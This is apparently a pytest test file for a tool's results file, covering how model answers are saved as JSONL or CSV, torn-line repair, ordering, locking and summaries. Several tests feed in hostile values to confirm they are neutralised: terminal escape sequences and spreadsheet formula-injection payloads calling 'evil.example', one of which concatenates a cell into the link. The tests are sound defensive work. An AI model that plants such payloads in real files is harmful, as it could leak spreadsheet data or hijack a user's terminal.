"""The file of results: whole lines, torn ones, order, and the summary of them."""

from __future__ import annotations

import csv
import fcntl
import json
import math
import os
import random
import tracemalloc
from pathlib import Path
from types import SimpleNamespace

import pytest

from modelwhisk.map import session
from modelwhisk.map.inputs import rows_of
from modelwhisk.map.results import Line, Results, ResultsInUse, parse_line
from modelwhisk.map.summary import Summary
from modelwhisk.openwhisk import Activation

FORMS = pytest.mark.parametrize("form", ["jsonl", "csv"])
LINES = [
    Line({"n": 1}, 200, 12.5, 1, "a" * 32, True, {"square": 1}),
    Line({"n": 2, "note": 'a "quoted"\nline, ✓ \u2028'}, 200, 1.0, 3, None, None, "text\nof two lines"),
    Line({"image": "x.png"}, 200, 2.0, file="out/x.png", sent_files=["image", 'a "b", c']),
    Line({"n": 3}, 502, 2.0, 6, error="502: bad gateway"),
    Line({"n": 4}, None, error="no answer: the connection broke"),
    Line({"n": "\udcff"}, 400, 1.0, error="400: no"),
]


@FORMS
@pytest.mark.parametrize("line", LINES, ids=range(len(LINES)))
def test_a_line_is_one_line_and_comes_back(form, line):
    data = line.render(form)
    assert data.count(b"\n") == 1
    assert data.endswith(b"\n")
    assert parse_line(data[:-1], form) == line


@FORMS
def test_a_long_answer_is_known_again(form):
    """Python's own limit for a cell made each --resume send the input once more."""
    csv.field_size_limit(131_072)
    line = Line({"n": 1}, 200, 1.0, answer="y" * 200_000)
    assert parse_line(line.render(form), form) == line


@pytest.mark.parametrize("ms", ["nan", "inf", "1e400", "-1"])
def test_a_row_whose_numbers_can_not_be_counted_with_is_none_of_ours(ms):
    assert parse_line(b"1,200,%s,1,,,1,,,," % ms.encode(), "csv") is None
    assert parse_line(b"1,200,1.5,1,,,1,,,,", "csv").ms == 1.5


def test_a_row_of_an_older_table_is_known():
    """It had no column of the files that were sent."""
    assert parse_line(b"1,200,1.5,1,,,1,,,", "csv").ms == 1.5
    assert parse_line(b"1,200,1.5,1,,,1,,", "csv") is None


def test_an_older_table_goes_on_with_its_own_columns(tmp_path):
    """Programs refuse a table whose rows have more cells than its head."""
    older = "input,status,ms,attempts,activation,cold,answer,file,error,drift"
    (tmp_path / "r.csv").write_text(f"{older}\n1,200,1.5,1,,,1,,,\n")
    results = Results(tmp_path / "r.csv", "csv")
    results.append(Line(2, 200, 1.5, answer=2, sent_files=["image"]))
    assert [line.input for line in results.lines()] == [1, 2]
    results.close()
    with (tmp_path / "r.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert (",".join(rows[0]), {len(row) for row in rows}) == (older, {10})


@FORMS
def test_whatever_a_model_answers_results_are_text_that_steers_no_terminal(form):
    hostile = "half \ud800 a pair, \x1b]0;title\x07\x9b2J\u202e"
    answered = Line({hostile: 1}, 200, 1.0, answer={hostile: [hostile]})
    assert parse_line(answered.render(form), form) == answered
    failed = Line({"n": 1}, 500, 1.0, error=f"500: {hostile}", activation=hostile, drift=hostile)
    for line in (answered, failed):
        assert not set("\x1b\x07\x9b\u202e") & set(line.render(form).decode())


@pytest.mark.parametrize("begin", ["=", "+", "-", "@"])
def test_no_table_calculates_with_a_model_s_words(begin):
    """An error about an input begins with the input's name, which the model chose."""
    name = f'{begin}HYPERLINK("http://evil.example/")'
    line = Line({name: 1}, None, error=f"{name}: is missing", drift=None)
    cells = next(csv.reader([line.render("csv").decode()]))
    assert not [cell for cell in cells if cell.startswith(begin)]
    assert parse_line(line.render("csv"), "csv").error == f"error: {name}: is missing"
    assert parse_line(line.render("jsonl"), "jsonl") == line


@pytest.mark.parametrize("name", ['=HYPERLINK("http:evil"&A2,"open").png', "+1.png", "-1.png", "@x.png", "\t=1.png"])
def test_no_table_calculates_with_the_name_of_a_file(name):
    """An input of a stranger's gives it to its answer's, which with `--files .` is in no folder."""
    (cells,) = csv.reader([Line({"n": 1}, 200, file=str(Path() / name)).render("csv").decode()])
    assert cells[7] == f"./{name}"
    assert Path(cells[7]) == Path(name)


@pytest.mark.parametrize(
    "other",
    [
        {"drift": 5},
        {"ms": "x"},
        {"status": "200"},
        {"status": True},
        {"error": 5},
        {"attempts": 1.5},
        {"cold": 1},
        {"file": []},
        {"ms": float("nan")},
        {"ms": float("inf")},
        {"ms": 10**4_000},
        {"ms": -1},
        {"status": 10**4_000},
        {"attempts": 10**16},
        {"sent_files": "x"},
        {"sent_files": [5]},
    ],
    ids=range(16),
)
def test_a_line_whose_values_are_of_other_types_is_none_of_ours(other):
    line = {"input": {"x": "a"}, "status": 200, "ms": 1, "drift": "1; threshold=2"}
    assert parse_line(json.dumps(line).encode(), "jsonl") == Line({"x": "a"}, 200, 1, drift="1; threshold=2")
    assert parse_line(json.dumps({**line, **other}).encode(), "jsonl") is None
    assert parse_line(b'["input"]', "jsonl") is None


@FORMS
def test_a_line_of_another_s_that_is_too_deep_is_none_of_ours(form):
    for levels in (800, *range(960, 1000, 2), 5_000):
        deep = "[" * levels + "]" * levels
        line = f'{{"input": {deep}, "status": 200, "answer": 1}}' if form == "jsonl" else f"{deep},200,,1,,,1,,,,"
        found = parse_line(line.encode(), form)
        assert found is None if levels > 800 else found.key == deep


def test_results_that_were_private_stay_so(tmp_path):
    path = tmp_path / "results"
    path.touch(0o600)
    results = Results(path, "jsonl")
    rows = rows_of({"n": number} for number in (1, 2))
    for row in reversed(rows):
        results.append(Line(dict(row.values), 200))
    results.put_in_order(rows)
    results.close()
    assert [json.loads(line)["input"]["n"] for line in path.read_text().splitlines()] == [1, 2]
    assert path.stat().st_mode & 0o777 == 0o600


@FORMS
def test_cut_anywhere_what_was_whole_is_kept(tmp_path, form):
    path = tmp_path / "results"
    results = Results(path, form)
    for line in LINES[:3]:
        results.append(line)
    results.close()
    whole = path.read_bytes()
    ends = [position + 1 for position, byte in enumerate(whole) if byte == 10]
    for cut in range(len(whole)):
        path.write_bytes(whole[:cut])
        reopened = Results(path, form)
        expected = sum(end <= cut for end in ends[-3:])
        assert [line.key for line in reopened.lines()] == [line.key for line in LINES[:expected]]
        assert reopened.repaired == (cut > 0 and cut not in ends)
        reopened.append(LINES[4])
        assert list(reopened.lines())[-1] == LINES[4]
        reopened.close()


@FORMS
def test_order(tmp_path, form):
    rows = rows_of({"n": number % 40} for number in range(50))
    lines = [Line(row.values, 200, 1.0, answer=place) for place, row in enumerate(rows)]
    random.Random(3).shuffle(lines)
    results = Results(tmp_path / "results", form)
    for line in (Line({"of": "another run"}, 200), *lines):
        results.append(line)
    results.put_in_order(rows)
    results.append(Line({"n": 99}, 200))  # the file goes on
    found = [line.input for line in results.lines()]
    assert found == [row.values for row in rows] + [{"of": "another run"}, {"n": 99}]
    assert [path.name for path in tmp_path.iterdir()] == ["results"]
    results.close()


@FORMS
def test_what_may_pass_is_forgotten(tmp_path, form):
    results = Results(tmp_path / "results", form)
    for line in LINES:
        results.append(line)
    assert results.forget_failed() == 2
    assert [line.key for line in results.lines()] == [LINES[place].key for place in (0, 1, 2, 5)]
    results.close()


def test_two_runs_dont_write_one_file(tmp_path):
    results = Results(tmp_path / "results", "jsonl")
    with pytest.raises(ResultsInUse):
        Results(tmp_path / "results", "jsonl")
    results.close()
    Results(tmp_path / "results", "jsonl").close()


def test_who_only_reads_a_file_of_results_and_locks_it_is_not_called_a_run(tmp_path):
    (tmp_path / "results").touch()
    with (tmp_path / "results").open("rb") as theirs:
        fcntl.flock(theirs, fcntl.LOCK_SH)
        with pytest.raises(ResultsInUse, match="or a program that reads it has locked it"):
            Results(tmp_path / "results", "jsonl")
    Results(tmp_path / "results", "jsonl").close()


def test_summary():
    summary = Summary()
    for number in range(1, 101):
        summary.add(Line({"n": number}, 200, float(number), activation=f"{number:032x}"), busy=100.0)
    summary.add(Line({"n": 0}, None, error="image: there is no file a.png"))
    summary.add(Line({"n": 0}, None, error="image: there is no file b.png"))
    assert (summary.total, summary.succeeded) == (102, 100)
    assert summary.failed == {"image: there is no file …": 2}
    assert (summary.quantile(0.5), summary.quantile(0.99)) == (50.0, 99.0)
    summary.estimate(512)
    assert summary.gb_seconds == pytest.approx(5.0)
    assert json.loads(json.dumps(summary.as_json()))["gb_seconds_estimated"] is True


def test_a_summary_keeps_a_page_of_records_at_a_time():
    def page(name, *, limit, skip, since):
        limits = {"key": "limits", "value": {"memory": 512}}
        ids = range(skip, skip + limit if skip < 1_000 else skip)
        return [
            Activation.from_json(
                {
                    "activationId": f"{number:032x}",
                    "duration": 2_000,
                    "annotations": [limits],
                    "logs": [f"{number:5000}"],
                }
            )
            for number in ids
        ]

    summary = Summary()
    for number in range(1_000):
        summary.add(Line({"n": number}, 200, 1.0, activation=f"{number:032x}"))
    tracemalloc.start()
    summary.charge(session._records(SimpleNamespace(list_activations=page), "x", 0, math.inf))
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (summary.cold_starts, summary.gb_seconds) == (0, 1_000.0)
    assert most < 2_500_000  # of 5,000,000 in all


def test_results_go_through_no_link_of_another_s(tmp_path, monkeypatch):
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "results.jsonl").symlink_to("mine")
    me = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: me + 1)
    with pytest.raises(PermissionError, match="it is a link"):
        Results(tmp_path / "results.jsonl", "jsonl", anew=True)
    assert (tmp_path / "mine").read_text() == "mine"
